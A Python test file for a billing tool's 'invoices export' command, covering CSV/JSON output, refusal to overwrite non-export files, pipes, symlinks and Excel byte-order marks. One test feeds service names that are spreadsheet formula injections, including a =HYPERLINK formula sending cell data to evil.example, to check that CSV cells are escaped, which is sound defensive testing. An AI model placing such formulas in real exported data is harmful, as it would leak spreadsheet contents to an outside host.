"""``invoices export``: line ids, invoice totals and document types in CSV and JSON, and an
unwritable output path as a one-line error, through the real command line."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta

import pytest
from sqlalchemy import text
from tests.billing.conftest import ROOT, one_line_error, warehouse_contents

from agent_billing.billing.export import TEXT_COLUMNS
from agent_billing.warehouse.values import as_utc


def export(agent_billing_cli, month: str, fmt: str = "csv") -> str:
    process = agent_billing_cli("invoices", "export", "--month", month, "--format", fmt)
    assert process.returncode == 0, process.stderr
    return process.stdout


def test_adjustments_resolve_to_exported_line_ids(corrected, agent_billing_cli):
    april = list(csv.DictReader(io.StringIO(export(agent_billing_cli, "2024-04"))))
    may = list(csv.DictReader(io.StringIO(export(agent_billing_cli, "2024-05"))))
    assert {r["line_id"] for r in april} == {x["line_id"] for x in corrected.invoice("INV-C-2024-04")["lines"]}
    adjustments = [r for r in may if r["kind"] == "adjustment"]
    assert len(adjustments) == 2
    assert {r["adjusts_line_id"] for r in adjustments} == {r["line_id"] for r in april}
    # The invoice an adjustment corrects, and the month whose export holds the corrected line.
    assert {r["adjusts_invoice_id"] for r in adjustments} == {"INV-C-2024-04"}
    assert {r["invoice_month"] for r in may} == {"2024-05-01"} and {r["invoice_month"] for r in april} == {"2024-04-01"}
    assert {r["adjusts_invoice_id"] for r in may if r["kind"] != "adjustment"} == {""}
    assert {(r["invoice_total"], r["document_type"]) for r in may} == {("162.58", "invoice")}
    assert {r["invoice_total"] for r in april} == {"138.58"}
    assert list(may[0])[:9] == ["invoice_id", "invoice_date", "document_type", "currency",
                               "invoice_total", "contract_id", "account_id", "account_name", "line_id"]


def test_json_gives_the_same_rows(corrected, agent_billing_cli):
    rows_csv = list(csv.DictReader(io.StringIO(export(agent_billing_cli, "2024-05"))))
    rows_json = json.loads(export(agent_billing_cli, "2024-05", "json"))
    as_text = [{k: "" if v is None else str(v) for k, v in r.items()} for r in rows_json]
    assert as_text == rows_csv and len(rows_json) == 3
    assert isinstance(rows_json[0]["amount"], str)  # exact decimals, never JSON floats


@pytest.mark.parametrize("where", ["missing-dir/may.csv", "a-directory"])
def test_an_unwritable_path_is_one_line_naming_it(corrected, agent_billing_cli, tmp_path, where):
    out = tmp_path / "exports"
    (out / "a-directory").mkdir(parents=True)
    target = out / where
    before = warehouse_contents(corrected.engine)
    process = agent_billing_cli("invoices", "export", "--month", "2024-05", "--output", str(target))
    assert (process.returncode, process.stdout) == (2, "")
    assert f"cannot write {target}" in one_line_error(process)
    assert sorted(p.name for p in out.iterdir()) == ["a-directory"]  # nothing left behind
    assert list((out / "a-directory").iterdir()) == []
    assert warehouse_contents(corrected.engine) == before


def test_an_export_replaces_an_earlier_export_never_another_file(corrected, agent_billing_cli, tmp_path):
    """A slip of ``--output`` naming the warehouse (or the contracts file, a landing's manifest)
    replaced it and every posted invoice was gone; the month exported again, in either format,
    replaces its earlier export."""
    others = {"warehouse.db": b"SQLite format 3\x00", "contracts.yaml": b"accounts:\n  - account_id: A\n",
              "manifest.json": b'{"snapshot_date": "2024-05-01"}\n'}
    folder = tmp_path / "finance"
    folder.mkdir()
    for name, content in others.items():
        (folder / name).write_bytes(content)
        process = agent_billing_cli("invoices", "export", "--month", "2024-05", "--output", str(folder / name))
        assert (process.returncode, process.stdout) == (2, "")
        assert one_line_error(process).endswith(
            f"{folder / name} exists and is not an invoice export: give another file name (--output "
            "replaces only an earlier export), or remove the file first")
        assert (folder / name).read_bytes() == content
    for options in ([], ["--for-excel"], ["--format", "json"]):
        target = folder / "may-export"
        for _ in range(2):  # written, then written again over itself
            process = agent_billing_cli("invoices", "export", "--month", "2024-05", *options, "--output", str(target))
            assert process.returncode == 0, (options, process.stderr)
        empty_month = agent_billing_cli("invoices", "export", "--month", "2024-01", *options, "--output", str(target))
        assert empty_month.returncode == 0, (options, empty_month.stderr)
        again = agent_billing_cli("invoices", "export", "--month", "2024-05", *options, "--output", str(target))
        assert again.returncode == 0, (options, again.stderr)  # over an export of no line
        target.unlink()
    assert sorted(p.name for p in folder.iterdir()) == sorted(others)


def test_a_read_only_export_is_refused_not_replaced(corrected, tmp_path):
    """Finance's signed-off export, read-only: the rename of a temporary file replaced it (only
    the folder's permission counts for a rename). Refused as ``open`` refuses it. Run without
    root's override of file permissions (the test may run as root: setpriv drops it)."""
    import os
    import subprocess
    import sys

    signed = tmp_path / "signed-off.csv"
    signed.write_text("invoice_id,invoice_date\nthe export finance signed off\n")
    signed.chmod(0o444)
    without_override = ["setpriv", "--bounding-set=-dac_override,-dac_read_search"] if os.geteuid() == 0 else []
    process = subprocess.run(
        [*without_override, sys.executable, "-m", "agent_billing.cli", "invoices", "export", "--month", "2024-05",
         "--output", str(signed)],
        capture_output=True, text=True, timeout=120, check=False,
        env={**os.environ, "PYTHONPATH": str(ROOT / "include")},
    )
    assert (process.returncode, process.stdout) == (2, "")
    assert one_line_error(process).endswith(f"cannot write {signed}: Permission denied")
    assert signed.read_text() == "invoice_id,invoice_date\nthe export finance signed off\n"


def test_an_export_to_a_pipe_writes_into_it(corrected, agent_billing_cli, tmp_path):
    """``--output /dev/stdout`` or a named pipe: the rename replaced a pipe (or, as root, a
    device such as /dev/null) with a regular file, and the reader got nothing."""
    import os
    import threading

    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    received: list[str] = []
    reader = threading.Thread(target=lambda: received.append(pipe.read_text()))
    reader.start()
    process = agent_billing_cli("invoices", "export", "--month", "2024-05", "--output", str(pipe))
    reader.join(timeout=60)
    assert process.returncode == 0, process.stderr
    assert received and received[0].startswith("invoice_id,invoice_date,")
    assert pipe.is_fifo()


def test_an_export_to_a_symlink_writes_through_it(corrected, agent_billing_cli, tmp_path):
    """``--output link.csv`` where link.csv points into a shared folder: the rename replaced the
    link with a file of its own, and the shared file stayed as it was (a plain open writes through)."""
    shared = tmp_path / "share" / "may.csv"
    shared.parent.mkdir()
    shared.write_text("invoice_id,invoice_date\nlast month's export\n")
    link = tmp_path / "link.csv"
    link.symlink_to(shared)
    process = agent_billing_cli("invoices", "export", "--month", "2024-05", "--output", str(link))
    assert process.returncode == 0, process.stderr
    assert link.is_symlink() and link.resolve() == shared
    assert shared.read_text().startswith("invoice_id,invoice_date,")


@pytest.mark.parametrize("warehouse_url", ["sqlite"], indirect=True)
def test_a_reader_that_stops_early_ends_the_export_quietly(corrected, warehouse_url):
    """``invoices export | head -1``: the reader closes the pipe; the command stops without a
    traceback or an error line, with the status of a command killed by SIGPIPE (141)."""
    import os
    import subprocess
    import sys

    env = {**os.environ, "AIRFLOW_CONN_BILLING_WAREHOUSE": warehouse_url}
    process = subprocess.Popen([sys.executable, "-m", "agent_billing.cli", "invoices", "export", "--month",
                                "2024-05"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
    process.stdout.close()  # the reader is gone before the first line is written
    stderr = process.stderr.read().decode()
    assert (process.wait(timeout=120), stderr) == (141, "")


def test_a_name_a_spreadsheet_would_run_is_exported_as_text(books, agent_billing_cli):
    """Service names from the contracts file that start like a formula: CSV cells get a leading
    apostrophe (a spreadsheet would run =HYPERLINK(...) and send the sheet away, or show -2+3 as
    1); JSON keeps the names as they are; amounts keep their minus."""
    names = {"C-EQ": '=HYPERLINK("http://evil.example/?"&A1,"Details")', "C-MINUS": "-2+3", "C-AT": "@SUM(1+1)"}
    for contract_id, name in names.items():
        books.contract(contract_id, [{**books.rmm(f"S-{contract_id}", "12.00", "2024-03-01"), "name": name}],
                       start="2024-03-01")
        books.count(f"S-{contract_id}", "2024-03-01", 10)
        books.change(f"S-{contract_id}", "2024-03-15", 10, 9)
    books.contract("+1+2", [{**books.rmm("=1+1", "12.00", "2024-03-01"), "name": "Plain"}], start="2024-03-01")
    books.count("=1+1", "2024-03-01", 10)
    books.change("=1+1", "2024-03-15", 10, 9)  # its change id starts with its service id
    books.bill("2024-03-01")
    books.bill("2024-04-01")

    exported = agent_billing_cli("invoices", "export", "--month", "2024-04", "--format", "csv")
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    for row in rows:
        assert not any(row[c].startswith(("=", "+", "-", "@")) for c in TEXT_COLUMNS)
        if row["contract_id"] == "'+1+2":
            assert row["service_id"] == "'=1+1" and row["invoice_id"].startswith("INV-+1+2-")
            assert row["change_id"] in ("", "'=1+1:2024-03-15:nightly_sync")
            continue
        assert row["service_name"] == f"'{names[row['contract_id']]}"
    assert any(row["amount"].startswith("-") and row["units"].startswith("-") for row in rows)  # numbers stay numbers
    as_json = json.loads(agent_billing_cli("invoices", "export", "--month", "2024-04", "--format", "json").stdout)
    assert {row["service_name"] for row in as_json} == {*names.values(), "Plain"}


def test_each_line_says_when_its_invoice_was_posted_in_utc(corrected, agent_billing_cli):
    """A dispute asks "what had we sent by then": ``posted_at`` is the invoice's posting instant,
    one ISO form in UTC on both engines."""
    with corrected.engine.connect() as conn:
        posted = {i: as_utc(at) for i, at in conn.execute(text("SELECT invoice_id, posted_at FROM invoices"))}
    rows = list(csv.DictReader(io.StringIO(export(agent_billing_cli, "2024-05"))))
    assert {r["posted_at"] for r in rows} == {posted["INV-C-2024-05"].isoformat(timespec="seconds")}
    assert datetime.fromisoformat(rows[0]["posted_at"]).utcoffset() == timedelta(0)
    assert list(rows[0])[-1] == "posted_at"  # added at the end: imports reading by position keep working


def test_an_export_for_excel_starts_with_a_byte_order_mark(books, agent_billing_cli, tmp_path):
    """Excel reads a UTF-8 CSV without a byte-order mark as the local code page: "Müller" shows
    as "MÃ¼ller". ``--for-excel`` writes the mark; the plain CSV stays without it."""
    books.contract("C", [{**books.rmm("S", "12.00", "2024-03-01"), "name": "Überwachung Müller"}],
                   start="2024-03-01")
    books.count("S", "2024-03-01", 10)
    books.bill("2024-03-01")
    target = tmp_path / "march.csv"
    process = agent_billing_cli("invoices", "export", "--month", "2024-03", "--for-excel", "--output", str(target))
    assert process.returncode == 0, process.stderr
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfinvoice_id,")
    [row] = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert row["service_name"] == "Überwachung Müller"
    assert not export(agent_billing_cli, "2024-03").startswith("\ufeff")
    refused = agent_billing_cli("invoices", "export", "--month", "2024-03", "--format", "json", "--for-excel")
    assert refused.returncode == 2
    assert one_line_error(refused) == ("agent-billing invoices export: error: --for-excel is for --format csv: "
                                       "JSON has no byte-order mark")
